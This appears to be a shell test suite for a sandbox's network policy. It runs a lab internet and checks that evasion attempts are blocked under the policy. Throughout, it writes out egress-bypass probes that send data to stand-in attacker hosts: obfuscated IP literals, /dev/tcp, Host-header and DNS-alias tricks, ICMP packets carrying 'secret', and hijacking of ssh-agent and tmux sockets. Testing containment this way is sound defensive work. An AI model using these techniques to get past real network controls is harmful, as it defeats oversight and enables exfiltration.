# limit: 90
# levels: full strict
# needs: root
# Ways past the policy for the network, each of which gets through bare, in an internet of their own
# (netlab.sh).  What arrived outside is the ground truth.
. "$T_LIB"
. "$(dirname "$T_LIB")/netlab.sh"

# --- a probe -----------------------------------------------------------------------------------------------

# evades COMMAND [LEDGER...]: bare it meets a stranger, inside nobody.  LEDGER is OP TARGET of a denial.
evades() {
	local command=$1 op=${2:-} target=${3:-}
	lab_forget
	run bash -c "$command"
	strangers | grep -q . || fail "bare, nobody is met by: $command"
	stopped "$command" ${op:+"$op" "$target"}
}

# The same of what goes nowhere bare.
stopped() {
	local command=$1 op=${2:-} target=${3:-}
	lab_forget
	fsh "$command"
	only_the_good
	out_lacks "evil "
	[ -z "$op" ] || recorded "$op" deny "$target"
}

# A probe in python: what it needs of imports, then its statements.
py() {
	printf 'python3 -c "import socket, struct, sys\n%s"' "$1"
}

t_literals() {
	lab
	own_host
	local host
	for host in $EVIL $EVIL_NUMBER $EVIL_HEX $EVIL_OCTAL 45.33.8258 0x2d212042; do
		evades "curl -sS -m 3 http://$host/hello" connect "$EVIL:80"
	done
	for host in $EVIL_NUMBER $EVIL_HEX 45.2170946; do
		evades "$(py "socket.create_connection(('$host', 4444), 3).recv(9)")" connect "$EVIL:4444"
	done
	evades "curl -sS -m 3 'http://[::ffff:$EVIL]/hello'" connect "$EVIL:80"
	evades "curl -sS -m 3 'http://[::ffff:2d21:2042]/hello'" connect "$EVIL:80"
	evades "curl -sS -m 3 'http://[$EVIL6]/hello'"
	denied_in_ledger $EVIL6
	evades "curl -sS -m 3 'http://[2600:3c01:0:0::66]:8080/hello'"
	evades "$(py "socket.create_connection(('::ffff:$EVIL', 80), 3)")" connect "$EVIL:80"
	evades "curl -sS -m 3 'http://[fe80::ff:fe00:1%wire]/hello'" connect
	evades "curl -sS -m 3 http://$LAB_GATE/hello" connect "$LAB_GATE:80"
	evades "curl -sS -m 3 telnet://$EVIL:4444" connect "$EVIL:4444"
	evades "exec 3<>/dev/tcp/$EVIL/80" connect "$EVIL:80"
	evades "'$T_VICTIMS/net-static' connect $EVIL 80" connect "$EVIL:80"
	evades "'$T_VICTIMS/net-static' connect ::ffff:$EVIL 80" connect "$EVIL:80"
	evades "'$T_VICTIMS/net-static' connect $EVIL6 80"
	stopped "curl -sS -m 3 'http://[64:ff9b::$EVIL]/hello'" connect
	stopped "curl -sS -m 3 'http://[::$EVIL]/hello'" connect
	stopped "curl -sS -m 3 'http://[2002:2d21:2042::1]/hello'" connect
}

t_host_header() {
	lab
	own_host
	evades "curl -sS -m 3 -H 'Host: own.example' http://evil.example/hello" resolve evil.example
	evades "curl -sS -m 3 -H 'Host: own.example' http://$EVIL/hello" connect "$EVIL:80"
	evades "getent hosts own.example; curl -sS -m 3 --resolve own.example:80:$EVIL http://own.example/hello" connect "$EVIL:80"
	evades "getent hosts own.example; curl -sS -m 3 --connect-to own.example:80:$EVIL:80 http://own.example/hello" connect "$EVIL:80"
	evades "curl -sS -k -m 3 --resolve own.example:443:[$EVIL6] https://own.example/hello"
	denied_in_ledger $EVIL6
}

# Names that end, begin or look like the allowed one.
t_names_alike() {
	lab
	own_host
	local name
	for name in notown.example own.example.evil.example xn--own-tna.example EVIL.example evil.example. WWW.Evil.Example.; do
		evades "curl -sS -m 3 http://$name/hello" resolve
	done
	for name in own.example@evil.example own.example:80@evil.example "own.example%2f@$EVIL"; do
		evades "curl -sS -m 3 http://$name/hello"
	done
	evades "curl -sS -m 3 http://hosts-evil.example/hello"
	recorded 'resolve|connect' deny hosts-evil.example
	echo 'www.own.example evil.example' >aliases
	evades "HOSTALIASES=$W/aliases curl -sS -m 3 http://evil.example/hello" resolve evil.example
	stopped "LOCALDOMAIN=evil.example RES_OPTIONS=ndots:5 getent hosts www"
	not_asked www.evil.example
}

t_other_packets() {
	lab
	own_host
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(b'\\\\x08' + b'\\\\0' * 7 + b'secret', ('$EVIL', 1))")"
	evades "$(py "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
s.sendto(b'\\\\x80' + b'\\\\0' * 7 + b'secret', ('$EVIL6', 1))")"
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
s.sendto(b'secret', ('$EVIL', 4444))")"
	evades "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
s.connect(('$EVIL', 4444))")"
	evades "$(py "s = socket.socket()
s.sendto(b'GET /hello HTTP/1.0\\\\r\\\\n\\\\r\\\\n', 0x20000000, ('$EVIL', 80))")"
	# A source route would lead where the address does not.
	stopped "$(py "s = socket.socket()
s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b'\\\\x83\\\\x07\\\\x04' + socket.inet_aton('$EVIL') + b'\\\\0')
s.connect(('own.example', 80))")"
}

# The real ones.
t_agents_of_the_user() {
	lab
	need ssh-agent ssh-add tmux
	own_host
	ssh-agent -D -a "$XDG_RUNTIME_DIR/agent.1" >/dev/null &
	tmux -S "$XDG_RUNTIME_DIR/tmux" new-session -d "sleep 60" || fail "tmux"
	until_true 5 test -S "$XDG_RUNTIME_DIR/agent.1" || fail "ssh-agent"
	export SSH_AUTH_SOCK=$XDG_RUNTIME_DIR/agent.1
	run ssh-add -l
	out_has "no identities"
	fence env SSH_AUTH_SOCK="$SSH_AUTH_SOCK" ssh-add -l
	out_lacks "no identities"
	denied unix "$SSH_AUTH_SOCK"
	run tmux -S "$XDG_RUNTIME_DIR/tmux" list-sessions
	rc_is 0
	fence tmux -S "$XDG_RUNTIME_DIR/tmux" run-shell "touch $HOME/gone-out"
	rc_not 0
	missing "$HOME/gone-out"
	recorded unix deny "$XDG_RUNTIME_DIR/tmux"
}

scenario "$@"
